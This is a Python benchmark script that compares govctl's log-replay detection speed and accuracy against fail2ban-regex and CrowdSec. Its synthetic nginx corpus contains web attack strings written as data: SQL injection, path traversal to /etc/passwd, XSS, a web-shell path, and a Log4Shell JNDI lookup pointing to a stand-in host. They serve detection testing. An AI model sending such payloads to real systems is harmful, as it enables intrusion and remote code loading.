#!/usr/bin/env python3
"""Replay throughput of `govctl secops replay` against fail2ban-regex and CrowdSec, side by side.

usage: .venv/bin/python bench/secops_replay.py [--lines 200000] [--out results.json]
       [--baseline COMMIT [--rounds N]] [--peers all|fail2ban] [--no-extras]

Before/after of govctl itself, in one run (docs/benchmarks.md): `--baseline 3f488f8 --rounds 3 --peers
fail2ban --no-extras` replays the same corpus with that commit's code (`git archive` of the whole tree
into the work folder, run with PYTHONPATH pointed at it) and with this checkout's, alternately N times
next to fail2ban-regex, and reports the medians, each run's CPU seconds and the ratios.

1. Writes the shared sshd corpus (../shared/bench/gen_auth_corpus.py) and runs the peers on it
   (../shared/bench/peers.sh). CrowdSec's alerted addresses are read from its own logs, which a thin
   wrapper around its binary copies aside (peers.sh deletes its work folder).
2. Replays the same file with govctl (one single-threaded process: it never uses more than one
   core), wall clock of the whole command (start-up included, as for the peers) and its CPU time,
   with and without writing the SQLite store. Every govctl run imports the code of the tree it measures
   (PYTHONPATH), never what the virtualenv's editable install points to, and reads an empty config. On a shared, loaded machine CPU seconds compare the
   engines' work per core better than wall time (CrowdSec spreads over both cores).
3. Replays a mixed corpus (auth + nginx + firewall) with all bundled rules.
Prints one JSON document and a Markdown table for docs/benchmarks.md.
"""
from __future__ import annotations

import argparse
import ipaddress
import json
import os
import random
import re
import resource
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
# the peers' scripts sit in shared/bench next to the checkout (or next to the folder of worktrees)
SHARED = Path(os.environ.get("GOVCTL_SHARED_BENCH") or next(
    (d / "shared" / "bench" for d in (ROOT.parent, ROOT.parent.parent) if (d / "shared" / "bench").is_dir()),
    ROOT.parent / "shared" / "bench"))
OPS = ipaddress.ip_network("10.20.0.0/16")

# CrowdSec 1.4.6's replay sometimes finishes its work and then never exits (seen here under load:
# "Bucket routine exiting", alerts printed, process still alive minutes later). This wrapper runs the
# real binary, notes when its output has settled after that marker, stops it, and records that time
# and the logs (peers.sh deletes its work folder) in $capture.
_WRAPPER = """#!{python}
import json, os, resource, signal, subprocess, sys, time
REAL, CAPTURE = {real!r}, {capture!r}
args = sys.argv[1:]
if "-dsn" not in args:
    os.execv(REAL, [REAL, *args])
work = os.path.dirname(args[args.index("-c") + 1])
out = os.path.join(work, "replay.out")  # the replay's own log lines (the local API logs elsewhere)
start = time.monotonic()
proc = subprocess.Popen([REAL, *args])
marker_seen, last_size, last_change, hung = False, -1, start, False
while proc.poll() is None:
    time.sleep(0.05)
    text = open(out, errors="replace").read() if os.path.exists(out) else ""
    if len(text) != last_size:
        last_size, last_change = len(text), time.monotonic()
    marker_seen = marker_seen or "Bucket routine exiting" in text
    if marker_seen and time.monotonic() - last_change > 3:
        hung = True
        proc.send_signal(signal.SIGTERM)
        proc.wait(10)
        break
end = last_change if hung else time.monotonic()
time.sleep(1)
logs = "".join(open(os.path.join(d, f), errors="replace").read()
               for d in (work, os.path.join(work, "log")) for f in os.listdir(d) if f.endswith((".out", ".log")))
with open(CAPTURE, "w") as f:
    ru = resource.getrusage(resource.RUSAGE_CHILDREN)
    json.dump({{"processing_seconds": end - start, "stopped_after_hang": hung, "marker_seen": marker_seen,
               "cpu_seconds": ru.ru_utime + ru.ru_stime,
               "log": logs}}, f)
sys.exit(0)
"""


def run_peers(log: Path, work: Path) -> dict:
    real_root = Path(os.environ.get("PEERS_DIR", "/opt/govctl-peers")) / "crowdsec"
    if not (real_root / "usr/bin/crowdsec").exists():  # first run: let peers.sh unpack CrowdSec
        subprocess.run(["bash", str(SHARED / "peers.sh"), str(log)], check=True, capture_output=True)
    fake = work / "peers" / "crowdsec"
    (fake / "usr" / "bin").mkdir(parents=True)
    (fake / "usr" / "share").mkdir(parents=True)
    (fake / "etc").mkdir(parents=True)
    (fake / "usr/share/crowdsec").symlink_to(real_root / "usr/share/crowdsec")
    (fake / "etc/crowdsec").symlink_to(real_root / "etc/crowdsec")
    (fake / "usr/bin/cscli").symlink_to(real_root / "usr/bin/cscli")
    capture = work / "crowdsec-capture.log"
    wrapper = fake / "usr/bin/crowdsec"
    wrapper.write_text(_WRAPPER.format(python=sys.executable, real=str(real_root / "usr/bin/crowdsec"),
                                       capture=str(capture)))
    wrapper.chmod(0o755)
    env = {**os.environ, "PEERS_DIR": str(work / "peers")}
    out = subprocess.run(["bash", str(SHARED / "peers.sh"), str(log)], check=True, capture_output=True,
                         text=True, env=env).stdout
    f2b = re.search(r"fail2ban-regex: (\d+) lines in ([\d.]+) s wall; (.*)", out)
    cs = re.search(r"crowdsec replay: (\d+) lines in ([\d.]+) s wall; distinct sources alerted: (\d+)", out)
    if not f2b or not cs:
        raise SystemExit(f"could not read peers.sh output:\n{out}")
    seen = json.loads(capture.read_text())
    cs_sources = sorted(set(re.findall(r"Ip ([0-9.]+) performed", seen["log"])))
    lines = int(cs.group(1))
    return {
        "fail2ban_regex": {"seconds": float(f2b.group(2)), "lines_per_second": round(int(f2b.group(1)) / float(f2b.group(2))),
                           "summary": f2b.group(3).strip(), **fail2ban_cpu(log, lines)},
        "crowdsec": {"peers_sh_wall_seconds": float(cs.group(2)), "seconds": round(seen["processing_seconds"], 3),
                     "lines_per_second": round(lines / seen["processing_seconds"]),
                     "stopped_after_hang": seen["stopped_after_hang"], "cpu_seconds": round(seen["cpu_seconds"], 3),
                     "lines_per_cpu_second": round(lines / seen["cpu_seconds"]),
                     "sources_alerted": int(cs.group(3)), "sources": cs_sources},
    }


def _child_cpu() -> float:
    ru = resource.getrusage(resource.RUSAGE_CHILDREN)
    return ru.ru_utime + ru.ru_stime


def fail2ban_cpu(log: Path, lines: int) -> dict:
    """CPU seconds of the same fail2ban-regex command peers.sh runs (peers.sh reports wall time only)."""
    cpu = _child_cpu()
    subprocess.run(["fail2ban-regex", str(log), "/etc/fail2ban/filter.d/sshd.conf"], check=True, capture_output=True)
    used = _child_cpu() - cpu
    return {"cpu_seconds": round(used, 3), "lines_per_cpu_second": round(lines / used)}


def fail2ban_run(log: Path, lines: int) -> dict:
    """Wall and CPU seconds of the fail2ban-regex command peers.sh runs (for --peers fail2ban)."""
    if not shutil.which("fail2ban-regex"):
        raise SystemExit("fail2ban-regex is missing: run ../shared/bench/peers.sh once (it installs fail2ban)")
    cpu = _child_cpu()
    start = time.perf_counter()
    out = subprocess.run(["fail2ban-regex", str(log), "/etc/fail2ban/filter.d/sshd.conf"], check=True,
                         capture_output=True, text=True).stdout
    wall, used = time.perf_counter() - start, _child_cpu() - cpu
    summary = next((line for line in out.splitlines() if line.startswith("Lines:")), "")
    return {"seconds": round(wall, 3), "lines_per_second": round(lines / wall), "summary": summary.strip(),
            "cpu_seconds": round(used, 3), "lines_per_cpu_second": round(lines / used)}


def govctl_replay(files: list[Path], extra: list[str], tree: Path = ROOT,
                  config: Path | None = None) -> tuple[float, float, dict]:
    """(wall seconds, CPU seconds, JSON output) of one `govctl secops replay` run with the code of the
    checkout `tree` (this one, or an earlier commit's for a before/after in the same run)."""
    args = ["secops", "replay", *map(str, files), "--allow", str(OPS), "--year", "2026", "--json", *extra]
    if config is not None:
        args += ["--config", str(config)]
    cmd = [sys.executable, "-c", "from govctl.cli import main; main()", *args]
    env = {**os.environ, "PYTHONPATH": str(tree), "GOVCTL_ROOT": str(tree)}
    cpu = _child_cpu()
    start = time.perf_counter()
    proc = subprocess.run(cmd, capture_output=True, text=True, env=env, cwd=tree)
    wall = time.perf_counter() - start
    if proc.returncode != 0:
        raise SystemExit(f"govctl replay failed: {proc.stderr}")
    return wall, _child_cpu() - cpu, json.loads(proc.stdout)


def mixed_corpus(path: Path, lines: int, seed: int = 7) -> None:
    """nginx access (mostly benign, some attacks) and firewall drops (some scans), 2026-11-01."""
    rnd = random.Random(seed)
    t = 1793491200.0
    benign = ["/", "/news/2026/11/01.html", "/static/app.js", "/api/v1/services?page=2", "/search?q=社保"]
    attacks = ["/index.php?id=1%20union%20select%201,2,3", "/../../etc/passwd", "/q?x=%3Cscript%3Ealert(1)%3C/script%3E",
               "/uploads/shell.php", "/?x=${jndi:ldap://203.0.113.9/a}"]
    with open(path, "w", encoding="utf-8") as f:
        for _ in range(lines):
            t += rnd.uniform(0.001, 0.05)
            r = rnd.random()
            stamp = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime(t))
            if r < 0.55:
                ip = f"198.18.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}"
                f.write(f'{ip} - - [{stamp}] "GET {rnd.choice(benign)} HTTP/1.1" 200 {rnd.randint(100, 90000)} '
                        f'"-" "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"\n')
            elif r < 0.6:
                ip = f"203.0.113.{rnd.randint(100, 140)}"
                agent = rnd.choice(["sqlmap/1.7", "Mozilla/5.0", "Nikto/2.1.6"])
                f.write(f'{ip} - - [{stamp}] "GET {rnd.choice(attacks)} HTTP/1.1" 404 153 "-" "{agent}"\n')
            else:
                bsd = time.strftime("%b %e %H:%M:%S", time.gmtime(t))
                scanner = r < 0.65
                ip = f"203.0.113.{rnd.randint(200, 220)}" if scanner else f"198.18.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}"
                port = rnd.randint(1, 1024) if scanner else rnd.choice([23, 445, 3389])
                f.write(f"{bsd} fw-prod kernel: [{t % 100000:.3f}] govctl-drop: IN=eth0 OUT= SRC={ip} DST=10.11.1.10 "
                        f"LEN=44 TOS=0x00 PREC=0x00 TTL=49 ID=1 PROTO=TCP SPT={rnd.randint(1024, 65535)} DPT={port} "
                        "WINDOW=1024 RES=0x00 SYN URGP=0\n")


def _median(values: list[float]) -> float:
    return sorted(values)[len(values) // 2]


def _summary(runs: list[tuple[float, float, dict]], lines: int) -> dict:
    """Medians over the rounds, and each round's CPU seconds."""
    wall, cpu = _median([r[0] for r in runs]), _median([r[1] for r in runs])
    return {"wall_seconds": round(wall, 3), "lines_per_second_wall": round(lines / wall),
            "cpu_seconds": round(cpu, 3), "lines_per_cpu_second": round(lines / cpu),
            "cpu_seconds_per_round": [round(r[1], 3) for r in runs],
            "lines_per_second_engine": _median([r[2]["lines_per_second"] for r in runs])}


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--lines", type=int, default=200_000)
    ap.add_argument("--out", type=Path)
    ap.add_argument("--keep", action="store_true", help="keep the work folder (corpora, CrowdSec capture)")
    ap.add_argument("--baseline", metavar="COMMIT", help="also replay with this earlier commit's code (same corpus, "
                    "same run): a before/after of govctl itself")
    ap.add_argument("--rounds", type=int, default=1, help="replay (baseline and) this checkout alternately this "
                    "many times, next to fail2ban-regex with --peers fail2ban; medians are reported")
    ap.add_argument("--peers", choices=["all", "fail2ban"], default="all", help="all: fail2ban-regex and CrowdSec "
                    "through peers.sh; fail2ban: fail2ban-regex only, once per round")
    ap.add_argument("--no-extras", action="store_true", help="skip the replays with the store and of the mixed corpus")
    a = ap.parse_args()
    if a.rounds < 1:
        ap.error("--rounds must be at least 1")
    work = Path(tempfile.mkdtemp(prefix="secops-bench-"))
    try:
        log = work / "auth.log"
        truth = json.loads(subprocess.run([sys.executable, str(SHARED / "gen_auth_corpus.py"), str(log), "--lines",
                                           str(a.lines)], check=True, capture_output=True, text=True).stdout)
        config = work / "secops.yaml"
        config.write_text("{}\n")  # the defaults, whatever state/secops/config.yaml a checkout has
        tree = None
        if a.baseline:
            tree = work / "baseline"
            tree.mkdir()
            archive = subprocess.run(["git", "-C", str(ROOT), "archive", a.baseline], check=True,
                                     capture_output=True).stdout
            subprocess.run(["tar", "-x", "-C", str(tree)], input=archive, check=True)
        peers = run_peers(log, work) if a.peers == "all" else {}
        f2b_runs, base_runs, our_runs = [], [], []
        for _ in range(a.rounds):  # alternate, so the load of a shared machine falls on each alike
            if a.peers == "fail2ban":
                f2b_runs.append(fail2ban_run(log, a.lines))
            if tree is not None:
                base_runs.append(govctl_replay([log], [], tree, config))
            our_runs.append(govctl_replay([log], [], ROOT, config))
        if f2b_runs:
            best = sorted(f2b_runs, key=lambda r: r["cpu_seconds"])[len(f2b_runs) // 2]
            peers["fail2ban_regex"] = {**best, "cpu_seconds_per_round": [r["cpu_seconds"] for r in f2b_runs]}
        ours = our_runs[-1][2]
        g = _summary(our_runs, a.lines)
        baseline = None
        if base_runs:
            b = _summary(base_runs, a.lines)
            b_out = base_runs[-1][2]
            baseline = {"commit": a.baseline, **b,
                        "same_alerts": b_out["alerts"] == ours["alerts"] and b_out["blocked"] == ours["blocked"]}
        sources = set(re.findall(r" from (\S+) port", log.read_text()))
        attackers = {s for s in sources if ipaddress.ip_address(s) not in OPS}
        ours_sources = sorted({x["source.ip"] for x in ours["alerts"] if x["source.ip"]})
        cs_sources = set(peers["crowdsec"]["sources"]) if "crowdsec" in peers else set()
        result = {
            "corpus": {"lines": a.lines, **truth},
            "machine": f"{os.cpu_count()} cores, {round(os.sysconf('SC_PAGE_SIZE') * os.sysconf('SC_PHYS_PAGES') / 2**30)} GiB",
            "load_average_at_start": os.getloadavg(),
            "rounds": a.rounds,
            **peers,
            "govctl": {**g, "alerts": len(ours["alerts"]), "sources_alerted": len(ours_sources),
                       "blocked": len(ours["blocked"]),
                       "attacker_sources_missed": sorted(attackers - set(ours_sources)),
                       "ops_addresses_alerted": sorted(s for s in ours_sources if ipaddress.ip_address(s) in OPS),
                       "ops_addresses_blocked": sorted(s for s in ours["blocked"] if ipaddress.ip_address(s) in OPS),
                       **({"crowdsec_sources_missed": sorted(cs_sources - set(ours_sources)),
                           "crowdsec_sources_caught": len(cs_sources & set(ours_sources))} if cs_sources else {})},
            "govctl_baseline": baseline,
        }
        if baseline:
            result["govctl_vs_baseline"] = {
                "cpu_seconds_ratio": round(g["cpu_seconds"] / baseline["cpu_seconds"], 3),
                "throughput_change_percent_cpu": round((baseline["cpu_seconds"] / g["cpu_seconds"] - 1) * 100, 1),
                "throughput_change_percent_wall": round((baseline["wall_seconds"] / g["wall_seconds"] - 1) * 100, 1)}
        if not a.no_extras:
            wall_store, cpu_store, ours_store = govctl_replay([log], ["--store", str(work / "bench.db")], ROOT, config)
            mixed = work / "mixed.log"
            mixed_corpus(mixed, a.lines // 2)
            mixed_wall, mixed_cpu, mixed_out = govctl_replay([log, mixed], [], ROOT, config)
            result["govctl_with_store"] = {
                "wall_seconds": round(wall_store, 3), "lines_per_second_wall": round(a.lines / wall_store),
                "cpu_seconds": round(cpu_store, 3), "lines_per_cpu_second": round(a.lines / cpu_store),
                "lines_per_second_engine": ours_store["lines_per_second"]}
            result["mixed"] = {
                "lines": mixed_out["lines"], "wall_seconds": round(mixed_wall, 3),
                "cpu_seconds": round(mixed_cpu, 3), "lines_per_cpu_second": round(mixed_out["lines"] / mixed_cpu),
                "lines_per_second_wall": round(mixed_out["lines"] / mixed_wall),
                "lines_per_second_engine": mixed_out["lines_per_second"], "unparsed": mixed_out["unparsed"],
                "alerts_by_rule": _count(mixed_out["alerts"]), "blocked": len(mixed_out["blocked"])}
        for name, runs in (("govctl", g), ("govctl_baseline", baseline)):
            if not runs:
                continue
            ratios = {}
            if "fail2ban_regex" in peers:
                f = peers["fail2ban_regex"]
                ratios["wall_vs_fail2ban_regex"] = round(runs["lines_per_second_wall"] / f["lines_per_second"], 2)
                ratios["cpu_vs_fail2ban_regex"] = round(runs["lines_per_cpu_second"] / f["lines_per_cpu_second"], 2)
            if "crowdsec" in peers:
                c = peers["crowdsec"]
                ratios["wall_vs_crowdsec"] = round(runs["lines_per_second_wall"] / c["lines_per_second"], 2)
                ratios["cpu_vs_crowdsec"] = round(runs["lines_per_cpu_second"] / c["lines_per_cpu_second"], 2)
            result[f"ratios_{name}"] = ratios
        text = json.dumps(result, indent=2, ensure_ascii=False)
        print(text)
        if a.out:
            a.out.write_text(text + "\n")
        if result["govctl"]["attacker_sources_missed"] or result["govctl"]["ops_addresses_alerted"]:
            raise SystemExit("precision/recall regression: an attacker missed or an ops address alerted (see above)")
    finally:
        if a.keep:
            print(f"kept {work}", file=sys.stderr)
        else:
            shutil.rmtree(work, ignore_errors=True)


def _count(alerts: list[dict]) -> dict[str, int]:
    out: dict[str, int] = {}
    for x in alerts:
        out[x["rule"]] = out.get(x["rule"], 0) + 1
    return dict(sorted(out.items()))


if __name__ == "__main__":
    main()
